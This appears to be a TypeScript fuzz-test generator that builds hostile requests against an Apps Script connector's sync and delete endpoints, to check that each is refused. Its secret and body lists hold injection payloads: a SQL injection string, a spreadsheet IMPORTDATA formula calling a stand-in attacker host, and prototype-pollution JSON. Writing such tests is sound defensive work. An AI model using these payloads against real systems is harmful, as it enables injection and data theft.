import { toWebEvent } from '../../../local/apps-script/web-event';
import type { Random } from '../../../local/vendors/random';

/** What Google calls, and with what. */
export type HostileCall = readonly ['GET' | 'POST', unknown];

/** The secrets that a stranger may have got hold of. */
export interface Known {
  /** The right one: it comes only with what makes no sense. */
  readonly secret: string;
  /** One that opened once. */
  readonly earlier: string;
}

/** The paths that start something, of connections of that id. */
export function startingPaths(id: string): readonly string[] {
  return ['/sync-now', `/api/connections/${id}/sync`, `/api/connections/${id}/delete`, '/api/connections/'];
}

/** A call that nothing may come of, other than a refusal. */
export function hostileCall(random: Random, known: Known, id: string): HostileCall {
  const path = random.pick(startingPaths(id));
  switch (
    random.weighted({ wrong: 30, missing: 15, replayed: 15, twice: 8, oversized: 1, shape: 20, event: 6, place: 5 })
  ) {
    case 'wrong':
      return withSecret(random, path, wrongSecret(random, known.secret));
    case 'missing':
      return random.chance(0.5) ? ask('GET', path, null) : post(path, null, '{}');
    case 'replayed':
      return withSecret(random, path, known.earlier);
    case 'twice':
      return post(path, known.secret, JSON.stringify({ secret: wrongSecret(random, known.secret) }));
    case 'oversized':
      return post(path, random.pick([known.secret, null]), oversized(random, known.secret));
    case 'shape':
      return post(path, random.pick([known.secret, known.secret, known.earlier]), random.pick(shapes(random)));
    case 'event':
      return [random.pick(['GET', 'POST']), random.pick(EVENTS)];
    case 'place':
      return random.chance(0.5)
        ? ask('GET', path.replace(/\/$/, '/x'), known.secret)
        : post(
            random.pick(['/nothing', '/', '', '/runs/x', '/api/google-contacts/status', `${path}/..`]),
            known.secret,
            '{}',
          );
  }
}

function withSecret(random: Random, path: string, secret: string): HostileCall {
  if (random.chance(0.3)) return ask('GET', path, secret);
  if (random.chance(0.5)) return post(path, secret, '');
  const body = random.chance(0.5)
    ? JSON.stringify({ secret, save_as_dataset: true })
    : `secret=${encodeURIComponent(secret)}`;
  return post(path, null, body);
}

function ask(method: 'GET', path: string, secret: string | null): HostileCall {
  return [method, toWebEvent({ method, path: addressOf(path, secret) })];
}

function post(path: string, secret: string | null, body: string): HostileCall {
  const type = body.startsWith('secret=') ? 'application/x-www-form-urlencoded' : 'application/json';
  return ['POST', toWebEvent({ method: 'POST', path: addressOf(path, secret), type, body })];
}

function addressOf(path: string, secret: string | null): string {
  return `?path=${encodeURIComponent(path)}${secret === null ? '' : `&secret=${encodeURIComponent(secret)}`}`;
}

/** Nearly right, or nothing like it. */
function wrongSecret(random: Random, secret: string): string {
  const at = random.int(0, secret.length - 1);
  const other = secret[at] === 'a' ? 'b' : 'a';
  return random.pick([
    secret.slice(0, at) + other + secret.slice(at + 1),
    secret.slice(0, at),
    ` ${secret}`,
    `${secret}=`,
    `${secret}\u0000`,
    secret.toUpperCase(),
    '',
    '*',
    'null',
    '__proto__',
    "' OR 1=1 --",
    '=IMPORTDATA("https://evil.example")',
    '%ff%fe',
    random.digits(random.int(1, 300)),
  ]);
}

function oversized(random: Random, secret: string): string {
  const long = 'x'.repeat(random.int(100_000, 120_000));
  return random.pick([JSON.stringify({ secret, long }), long, `secret=${secret}&long=${long}`]);
}

/** Bodies that are no object of ours. */
function shapes(random: Random): readonly string[] {
  const depth = random.int(9, 20_000);
  return [
    ...['[]', '[{"secret": "x"}]', '7', 'true', '"text"', 'null', '{"a":', '{]', "{'a': 1}", 'NaN', '<xml/>', '\u0000'],
    ...['{"__proto__": {"secret": "x"}}', '{"constructor": {"prototype": 1}}', '{"a": {"__proto__": []}}'],
    `{"a": ${'['.repeat(depth)}${']'.repeat(depth)}}`,
    `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`,
    JSON.stringify({ dataset_name: { toString: 1 }, save_as_dataset: [], connection_type: 7, secret: 7 }).replace(
      '"secret":7',
      '"__proto__":7',
    ),
  ];
}

/** What Google never sends. */
const EVENTS: readonly unknown[] = [
  null,
  7,
  'event',
  [],
  {},
  { queryString: 7, parameters: { secret: [null, {}] }, postData: 'x' },
  { queryString: '&&==&=x&%&%zz=%ff&+', postData: { contents: {}, length: 'x', type: null } },
  { queryString: null, parameter: null, postData: { contents: null } },
  { pathInfo: { a: 1 }, postData: { contents: '{"secret": {"a": 1}}', length: 1e9, type: 'application/json' } },
];
